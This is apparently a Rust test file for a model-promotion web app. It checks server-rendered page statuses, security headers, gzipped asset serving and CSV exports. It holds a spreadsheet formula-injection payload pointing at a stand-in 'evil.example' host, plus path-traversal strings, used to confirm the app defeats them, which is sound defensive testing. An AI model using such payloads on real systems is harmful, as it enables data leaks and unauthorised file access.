//! Pages as the server renders them: statuses, security headers, precompressed assets, and
//! the history's exports.

use super::*;

#[tokio::test]
async fn pages_render_on_the_server_with_the_right_status() {
    let app = TestApp::new(&[]).await;
    app.register("churn", "dana").await;
    let alice = app.sign_in("alice").await;

    let page = app.get("/models/churn/versions/1", Some(&alice)).await;
    assert_eq!(page.status, StatusCode::OK);
    assert!(page.body.contains("Promotion track"));
    assert!(
        page.body.contains("Approve dev"),
        "alice is offered the dev decision"
    );

    let signed_out = app.get("/models/churn/versions/1", None).await;
    assert_eq!(signed_out.status, StatusCode::UNAUTHORIZED);
    assert!(
        signed_out
            .body
            .contains("/sign-in?return_to=/models/churn/versions/1"),
        "the sign-in link returns to the deep link"
    );

    let missing = app.get("/models/churn/versions/9", Some(&alice)).await;
    assert_eq!(missing.status, StatusCode::NOT_FOUND);
    assert!(missing.body.contains("has no version 9"));

    let nowhere = app.get("/no/such/page", Some(&alice)).await;
    assert_eq!(nowhere.status, StatusCode::NOT_FOUND);
    assert!(nowhere.body.contains("There is no page at this address."));
}

#[tokio::test]
async fn every_answer_carries_the_security_headers_and_pages_a_script_nonce() {
    let app = TestApp::new(&[]).await;
    app.register("churn", "dana").await;
    let alice = app.sign_in("alice").await;
    let page = app.get("/models/churn/versions/1", Some(&alice)).await;
    let api = app.get("/api/v1/models/churn/environments/dev", None).await;
    for reply in [&page, &api] {
        let header = |name: &str| {
            reply
                .headers
                .get(name)
                .unwrap_or_else(|| panic!("no {name}"))
                .to_str()
                .unwrap()
                .to_owned()
        };
        let policy = header("content-security-policy");
        assert!(policy.contains("frame-ancestors 'none'"), "{policy}");
        assert!(policy.contains("'wasm-unsafe-eval'"), "{policy}");
        assert!(!policy.contains("unsafe-inline"), "{policy}");
        assert_eq!(header("x-frame-options"), "DENY");
        assert_eq!(header("x-content-type-options"), "nosniff");
        assert_eq!(header("referrer-policy"), "same-origin");
        assert_eq!(header("cache-control"), "no-store");
        assert!(
            reply.headers.get("strict-transport-security").is_none(),
            "no HSTS over http"
        );
    }
    // The inline hydration script carries the nonce this answer's policy names, and the
    // next answer has another.
    let policy = page.headers["content-security-policy"].to_str().unwrap();
    let nonce = policy
        .split("'nonce-")
        .nth(1)
        .and_then(|rest| rest.split('\'').next())
        .unwrap();
    assert!(
        page.body.contains(&format!("nonce=\"{nonce}\"")),
        "the page's scripts carry {nonce}"
    );
    let again = app.get("/models/churn/versions/1", Some(&alice)).await;
    assert!(!again.headers["content-security-policy"]
        .to_str()
        .unwrap()
        .contains(nonce));

    let https = TestApp::new(&with_sso(&[(
        "PUBLIC_URL",
        "https://countersign.example.com",
    )]))
    .await;
    let reply = https.get("/healthz", None).await;
    assert_eq!(
        reply.headers["strict-transport-security"],
        "max-age=31536000"
    );
}

#[tokio::test]
async fn history_exports_never_hand_a_spreadsheet_a_formula() {
    let app = TestApp::new(&[]).await;
    app.register("churn", "dana").await;
    let alice = app.sign_in("alice").await;
    let reason = r#"=HYPERLINK("http://evil.example/?x","details")"#;
    let form = format!(
        "group=churn&version=1&environment=dev&verdict=reject&reason={}",
        url::form_urlencoded::byte_serialize(reason.as_bytes()).collect::<String>()
    );
    let rejected = app.sign(&alice, "churn", 1, &form).await;
    assert_eq!(rejected.status, StatusCode::OK, "{}", rejected.body);
    let csv = app
        .get("/models/churn/export/history.csv", Some(&alice))
        .await;
    assert_eq!(csv.status, StatusCode::OK);
    let rows = crate::support::csv_rows(&csv.body);
    assert_eq!(rows[0]["reason"], format!("'{reason}"));
}

#[tokio::test]
async fn the_site_is_served_precompressed_where_the_build_left_a_gzipped_copy() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("outside.txt"), "not for the web").unwrap();
    let site = dir.path().join("site");
    let pkg = site.join("pkg");
    std::fs::create_dir_all(&pkg).unwrap();
    std::fs::write(pkg.join("countersign_bg.wasm"), b"\0asm the raw module").unwrap();
    std::fs::write(pkg.join("countersign_bg.wasm.gz"), b"the gzipped module").unwrap();
    std::fs::write(
        pkg.join("countersign.css"),
        "body { margin: 0 }".repeat(200),
    )
    .unwrap();
    let app = TestApp::new(&[("SITE_ROOT", site.to_str().unwrap())]).await;
    let fetch = |path: &'static str, gzip: bool| {
        let mut request = Request::get(path);
        if gzip {
            request = request.header(header::ACCEPT_ENCODING, "gzip");
        }
        app.send(request.body(Body::empty()).unwrap())
    };

    let gzipped = fetch("/pkg/countersign_bg.wasm", true).await;
    assert_eq!(gzipped.status, StatusCode::OK);
    assert_eq!(gzipped.headers[header::CONTENT_ENCODING], "gzip");
    assert_eq!(gzipped.headers[header::CONTENT_TYPE], "application/wasm");
    assert_eq!(
        gzipped.body, "the gzipped module",
        "the build's copy, not compressed again"
    );
    assert!(
        !gzipped.headers.contains_key(header::CACHE_CONTROL),
        "the same for everyone, so not no-store"
    );

    let plain = fetch("/pkg/countersign_bg.wasm", false).await;
    assert!(!plain.headers.contains_key(header::CONTENT_ENCODING));
    assert_eq!(plain.body, "\0asm the raw module");

    // A site built without gzipped copies (cargo leptos) is still compressed on the fly.
    let css = fetch("/pkg/countersign.css", true).await;
    assert_eq!(css.headers[header::CONTENT_ENCODING], "gzip");
    assert_eq!(
        fetch("/pkg/missing.js", true).await.status,
        StatusCode::NOT_FOUND
    );
    for escape in ["/pkg/../../outside.txt", "/pkg/%2e%2e/%2e%2e/outside.txt"] {
        let reply = fetch(escape, false).await;
        assert!(
            !reply.body.contains("not for the web"),
            "{escape} reached a file outside the site"
        );
    }
}
